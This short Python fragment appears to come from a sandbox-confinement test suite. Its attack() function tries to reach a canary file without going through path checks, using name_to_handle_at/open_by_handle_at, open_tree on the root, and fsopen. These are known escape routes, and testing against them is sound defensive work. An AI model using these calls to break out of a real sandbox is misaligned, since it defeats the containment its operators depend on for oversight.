# Opens files by handle and by mount descriptor, which pass every check of the path.
# job: function | ends: completed | unconfined: breach
AT_FDCWD = -100


def attack():
    handle = ctypes.create_string_buffer(136)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    path = ctypes.c_char_p(SCENE["canary"].encode())
    return breaches(
        handle=lambda: syscall("name_to_handle_at", AT_FDCWD, path, handle, ctypes.byref(mount), 0),
        by_handle=lambda: syscall("open_by_handle_at", AT_FDCWD, handle, 0),
        tree=lambda: syscall("open_tree", AT_FDCWD, ctypes.c_char_p(b"/"), 0),
        copied_tree=lambda: syscall("open_tree", AT_FDCWD, ctypes.c_char_p(b"/"), 1),
        file_system=lambda: syscall("fsopen", ctypes.c_char_p(b"tmpfs"), 0),
    )
